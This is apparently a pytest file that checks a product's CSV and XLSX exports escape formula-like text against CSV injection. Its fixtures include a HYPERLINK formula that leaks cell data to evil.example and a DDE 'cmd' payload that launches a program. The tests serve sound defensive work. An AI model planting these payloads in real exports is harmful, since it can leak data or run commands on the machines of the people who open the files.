"""Every CSV and XLSX export writes text a spreadsheet would run as a formula as text (a leading
apostrophe, OWASP CSV injection), and numbers as numbers: the helper itself, the clause export
(CSV and XLSX), the audit log export and the usage events export."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pandas as pd
import pytest
from openpyxl import load_workbook

from knowledge.access.audit import AuditLog, audit_csv
from knowledge.contracts.book import EXPORT_COLUMNS, ClauseRecord, export_csv, export_xlsx
from knowledge.core.exports import csv_bytes, safe_cell, write_csv, xlsx_bytes
from knowledge.usage.events import UsageEvent, UsageFilter, UsageLog
from tests.db import migrated_engine

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def read_csv(data: bytes, encoding: str = "utf-8") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode(encoding), newline="")))


def read_xlsx(data: bytes) -> list[list]:  # type: ignore[type-arg]
    """The cells of the first sheet, each checked to be a value, never a formula (XML reads a
    carriage return back as a line feed)."""
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    rows = []
    for row in sheet.iter_rows():
        assert all(cell.data_type != "f" for cell in row), [c.value for c in row]
        rows.append([cell.value for cell in row])
    return rows


# The helper -----------------------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_starts_like_a_formula_gets_an_apostrophe(text: str):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Vacation", "a = b", "100 %", "", " =1", "'quoted", 3, -1.5, -7])
def test_other_text_and_every_number_stay_as_they_are(value: object):
    assert safe_cell(value) == value
    assert safe_cell(None) is None and safe_cell(True) is True


def test_csv_of_mappings_sequences_and_dataframes():
    rows = [{"text": t, "latency_ms": -1.5, "count": 3} for t in FORMULAS]
    expected = ["'" + t for t in FORMULAS]
    for data in (
        csv_bytes(rows, ["text", "latency_ms", "count"]),
        csv_bytes(
            [[r["text"], r["latency_ms"], r["count"]] for r in rows],
            ["text", "latency_ms", "count"],
        ),
        csv_bytes(pd.DataFrame(rows)),
    ):
        read = read_csv(data)
        assert [r["text"] for r in read] == expected
        assert {(r["latency_ms"], r["count"]) for r in read} == {("-1.5", "3")}
    frame = pd.DataFrame({"user": ["@ann", None], "score": [float("nan"), -0.5]})
    assert read_csv(csv_bytes(frame)) == [
        {"user": "'@ann", "score": ""},
        {"user": "", "score": "-0.5"},
    ]
    assert csv_bytes(rows[:1], ["text"], bom=True).startswith("\ufeff".encode())
    out = io.StringIO()
    assert write_csv(out, iter(rows), ["text", "count"]) == len(rows)
    with pytest.raises(TypeError):
        csv_bytes(rows)  # which columns, in which order?


def test_xlsx_cells_are_strings_not_formulas_and_numbers_stay_numbers():
    frame = pd.DataFrame(
        {
            "text": FORMULAS,
            "latency_ms": [-1.5] * len(FORMULAS),
            "count": [3] * len(FORMULAS),
            "at": [datetime(2026, 3, 1, 12, tzinfo=UTC)] * len(FORMULAS),
        }
    )
    header, *rows = read_xlsx(xlsx_bytes(frame, widths={"text": 60}, wrap=("text",)))
    assert header == ["text", "latency_ms", "count", "at"]
    # a lone CR reads back as LF or CR depending on the XML parser openpyxl uses (lxml or not)
    assert [r[0].replace("\r", "\n") for r in rows] == [
        "'" + t.replace("\r", "\n") for t in FORMULAS
    ]
    assert {(r[1], r[2], r[3]) for r in rows} == {(-1.5, 3, datetime(2026, 3, 1, 12))}
    sheet = load_workbook(io.BytesIO(xlsx_bytes(frame))).active
    assert sheet is not None
    assert sheet["A2"].data_type == "s" and sheet["B2"].data_type == "n"
    assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold


def test_xlsx_drops_characters_a_workbook_cannot_hold_before_escaping():
    [_, row] = read_xlsx(xlsx_bytes([["\x01=cmd|' /C calc'!A0", "bell\x07"]], ["a", "b"]))
    assert row == ["'=cmd|' /C calc'!A0", "bell"]


# The product's exports ------------------------------------------------------------------------


def clause(text: str, **changes: object) -> ClauseRecord:
    values: dict[str, object] = {
        "id": "c1",
        "doc_id": "d1",
        "collection": "Contracts",
        "file_name": "acme.pdf",
        "title": "Acme",
        "category": "Governing Law",
        "text": text,
        "page": 3,
        "value": "New York",
        "extracted_value": "New York",
        "confidence": 0.9,
        "status": "corrected",
        "reviewer": "ann",
        "reviewed_at": datetime(2026, 3, 1, 12, tzinfo=UTC),
        "note": None,
    }
    return ClauseRecord(**(values | changes))  # type: ignore[arg-type]


def formula_clauses() -> list[ClauseRecord]:
    return [
        clause(FORMULAS[0], value="+1", note="-2+3"),
        clause("This Agreement is governed by New York law.", reviewer="@SUM(A1)", note="\tx"),
        clause("\r=1+1", extracted_value="-5", value="=2*2"),
    ]


def test_clause_csv_escapes_clause_text_values_notes_and_reviewers():
    rows = read_csv(export_csv(formula_clauses()), "utf-8-sig")
    first, second, third = rows
    assert (first["text"], first["value"], first["note"]) == ("'" + FORMULAS[0], "'+1", "'-2+3")
    assert (second["reviewer"], second["note"]) == ("'@SUM(A1)", "'\tx")
    assert second["text"] == "This Agreement is governed by New York law."
    assert (third["text"], third["extracted value"], third["value"]) == ("'\r=1+1", "'-5", "'=2*2")
    assert {(r["page"], r["confidence"]) for r in rows} == {("3", "0.9")}


def test_clause_xlsx_holds_strings_not_formulas():
    header, first, second, third = read_xlsx(export_xlsx(formula_clauses()))
    assert header == list(EXPORT_COLUMNS)
    cell = dict(zip(header, first, strict=True))
    assert (cell["text"], cell["value"], cell["note"]) == ("'" + FORMULAS[0], "'+1", "'-2+3")
    assert (cell["page"], cell["confidence"]) == (3, 0.9)
    assert dict(zip(header, second, strict=True))["reviewer"] == "'@SUM(A1)"
    assert dict(zip(header, third, strict=True))["text"] in ("'\n=1+1", "'\r=1+1")


def test_audit_csv_escapes_user_names_targets_and_details(database_url: str):
    log = AuditLog(migrated_engine(database_url))
    log.record("=cmd|' /C calc'!A0", "sign_in_failed", "+1", outcome="failed")
    log.record("ann", "upload", "@HR/-2+3.pdf", channel="chat", status="added")
    rows = read_csv(audit_csv(log.events()))
    assert {(r["actor"], r["target"]) for r in rows} == {
        ("'=cmd|' /C calc'!A0", "'+1"),
        ("ann", "'@HR/-2+3.pdf"),
    }


def test_usage_csv_escapes_questions_users_and_comments_not_numbers(database_url: str):
    log = UsageLog(migrated_engine(database_url), "full")
    created = datetime(2026, 3, 1, 12, tzinfo=UTC)
    log.record_many(
        [
            UsageEvent(
                question=text,
                user="@SUM(A1)" if i == 3 else "bob",
                role="employee",
                channel="chat",
                model="-m1",
                abstained=False,
                total_ms=3.0,
                retrieval_ms=-1.5,
                top_score=-0.25,
                feedback_comment={1: "+1 great", 4: "\t-1", 5: "\r@x"}.get(i),
                created_at=created.replace(minute=i),
            )
            for i, text in enumerate(FORMULAS)
        ]
    )
    rows = read_csv(log.export_csv_bytes(UsageFilter()))
    # stored questions have their spacing normalised: "\t=1+1" is kept as "=1+1"
    assert [r["question"] for r in rows] == ["'" + " ".join(t.split()) for t in FORMULAS]
    assert rows[3]["user"] == "'@SUM(A1)"
    assert [r["feedback_comment"] for r in rows] == ["", "'+1 great", "", "", "'\t-1", "'\r@x"]
    assert {r["model"] for r in rows} == {"'-m1"}
    assert {(r["retrieval_ms"], r["total_ms"], r["top_score"]) for r in rows} == {
        ("-1.5", "3.0", "-0.25")
    }
